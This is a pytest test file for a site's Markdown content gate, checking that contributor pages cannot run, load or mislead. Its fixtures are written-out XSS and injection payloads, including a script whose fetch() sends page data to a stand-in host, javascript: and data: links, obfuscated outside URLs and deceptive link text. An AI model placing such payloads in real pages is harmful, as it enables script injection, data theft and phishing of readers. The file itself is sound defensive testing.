"""Nothing a contributor writes in a page's Markdown can run, load from outside
or mislead in a reader's page (scripts/pages/content_gate.py): each attack of
issue 23 (items 1, 2 and 4) is refused, naming the Markdown file and line.
Most cases call the gate on small fixtures; one build of a copy of the project
shows the refusal ends `make build`, naming the file and line."""
import re

import pytest

from helpers import ROOT, build_site
from pages import content_gate
from translation_project import copy_project, output

MD_CONFIG = {
    "markdown_extensions": ["toc", "tables", "attr_list", "md_in_html", "admonition", "def_list",
                            "footnotes", "pymdownx.details", "pymdownx.superfences", "pymdownx.tabbed"],
    "mdx_configs": {"pymdownx.tabbed": {"alternate_style": True}},
}


def findings(markdown):
    html = content_gate.markdown_lib.Markdown(extensions=MD_CONFIG["markdown_extensions"],
                                              extension_configs=MD_CONFIG["mdx_configs"]).convert(markdown)
    return [f.what for f in content_gate.check_html(html)]


ATTACKS = {
    # 1. inline code the policy used to approve
    "script sending answers out": "Text.\n\n<script>fetch('https://x.example/?'+1);localStorage.a=1</script>\n",
    "inline script in a paragraph": "Some text <script>document.cookie='a=1'</script> more.\n",
    "onclick": 'A <span onclick="alert(1)">word</span>.\n',
    "details ontoggle": '<details open ontoggle="alert(1)"><summary>x</summary>y</details>\n',
    "handler in upper case": '<div OnMouseOver="alert(1)">x</div>\n',
    # 2. markup the policy cannot stop
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://x.example/">\n',
    "iframe": "<iframe src=https://x.example/></iframe>\n",
    "full-page layer": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Hi</div>\n',
    "style element": "<style>.rs-exit{display:none}</style>\n",
    "backslash image": '<img src="https:\\\\x.example/x.png" alt="">\n',
    "missing slashes": '<img src="https:x.example/x.png" alt="">\n',
    "mixed case scheme": '<img src="HtTpS://x.example/x.png" alt="">\n',
    "protocol-relative": '<img src="//x.example/x.png" alt="">\n',
    "tab inside the scheme": '<img src="ht&#9;tps://x.example/x.png" alt="">\n',
    "markdown image from outside": "![a picture](https://x.example/x.png)\n",
    "srcset": '<img src="a.png" srcset="https://x.example/x.png 2x" alt="">\n',
    "video poster": '<video poster="https://x.example/p.png"></video>\n',
    "object data": '<object data="https://x.example/x"></object>\n',
    "link element": '<link rel="preconnect" href="https://x.example">\n',
    "base element": '<base href="https://x.example/">\n',
    "form": '<form action="https://x.example/"><input name="q"></form>\n',
    "svg": "<svg><a href='https://x.example/'><text>x</text></a></svg>\n",
    "embed": '<embed src="x.swf">\n',
    "javascript link": "[click](javascript:alert(1))\n",
    "javascript with entities": '<a href="&#106;avascript:alert(1)">x</a>\n',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>\n',
    "ping": '<a href="about.md" ping="https://x.example/">x</a>\n',
    "link text naming another site": "[https://ssd.eff.org/](https://x.example/ssd)\n",
    "link text with www": "[www.eff.org](https://x.example/)\n",
    "link text bare host": "[ssd.eff.org/en](https://x.example/en)\n",
    "link text hiding the host": "[https://ssd.eff.org@x.example/](https://ssd.eff.org@x.example/)\n",
    "address text over a page of the site": "[https://ssd.eff.org/](about.md)\n",
    # 4. footnote without a definition
    "footnote without definition": "A claim.[^nowhere]\n\n[^other]: A source.\n",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_each_attack_is_refused(name):
    assert findings(ATTACKS[name]), f"{name} went through the gate"


ALLOWED = {
    "autolink": "<https://ssd.eff.org/en>\n",
    "same host, other form": "[ssd.eff.org](https://ssd.eff.org/en/)\n",
    "www is the same site": "[www.eff.org](https://eff.org/)\n",
    "file names are not addresses": "[SHA256SUMS.sig](trainers.md) and [index.html](index.md)\n",
    "plain link text": "[the EFF's guide](https://ssd.eff.org/)\n",
    "image of the site": "![map](../assets/img/favicon.svg)\n",
    "div with markdown": '<div id="x" class="y" markdown>\n\n**Bold.**\n\n</div>\n',
    "footnote with definition": "A claim.[^s]\n\n[^s]: \"Title\". Publisher, 2026. <https://example.org/>\n",
    "code is text": "`<script>alert(1)</script>` and `[^x]`\n\n```html\n<iframe src=https://x.example>\n```\n",
    "details": "??? note \"More\"\n    Hidden text.\n",
    "tabs": '=== "One"\n    a\n=== "Two"\n    b\n',
    "mail": "[someone@example.org](mailto:someone@example.org)\n",
}


@pytest.mark.parametrize("name", ALLOWED)
def test_ordinary_markdown_passes(name):
    assert findings(ALLOWED[name]) == [], name


@pytest.mark.parametrize("value,outside", [
    ("img/x.png", False), ("../assets/x.png", False), ("#top", False), ("x.png?a=b", False),
    ("https://h/x", True), ("https:\\\\h\\x", True), ("https:h/x", True), ("//h/x", True),
    ("\\\\h/x", True), (" HTTPS://h", True), ("ht\ntps://h", True), ("ftp://h/x", True),
])
def test_outside_addresses_are_recognised_after_normalising(value, outside):
    assert content_gate.is_outside(value) is outside


def test_front_matter_headed_for_the_head_is_refused():
    found = content_gate.check_front_matter({"title": 'x"><script>alert(1)</script>', "description": "ok"})
    assert len(found) == 1 and "title" in found[0].what


def test_the_report_names_file_and_line():
    source = "---\ntitle: x\n---\n\n# X\n\nText.\n\n<iframe src=https://x.example></iframe>\n"
    found = content_gate.check_html(content_gate.markdown_lib.markdown(source.split("---\n", 2)[2]))
    assert "docs/en/x.md:9: a <iframe> element" in content_gate.report(found, "docs/en/x.md", source)


def test_the_sites_own_pages_pass(site):
    # The session's strict build ran the gate over every page of both languages.
    assert (site / "zh" / "check.html").is_file()


@pytest.mark.slow  # a build of its own
def test_a_script_a_translator_adds_to_the_check_page_fails_the_build(tmp_path):
    project = copy_project(tmp_path / "project")
    page = project / "docs" / "zh" / "check.md"
    text = page.read_text(encoding="utf-8")
    anchor = "### 你的手机是国行版吗？ {#phone-region .question}\n"
    assert anchor in text
    text = text.replace(anchor, anchor + "\n<script>fetch('https://x.example/?'+location)</script>\n", 1)
    page.write_text(text, encoding="utf-8")
    line = text[:text.index("<script>")].count("\n") + 1
    result = build_site(tmp_path / "site", project)
    assert result.returncode != 0
    assert re.search(rf"docs/zh/check\.md:{line}: a <script> element", output(result)), output(result)
    assert not (tmp_path / "site" / "zh" / "check.html").exists()


def test_the_fixtures_render_with_the_sites_markdown_extensions():
    from common import project_config

    config = project_config.load(ROOT / "mkdocs.yml")
    names = [e if isinstance(e, str) else next(iter(e)) for e in config["markdown_extensions"]]
    assert set(names) <= set(MD_CONFIG["markdown_extensions"]), "the fixtures render with fewer extensions"
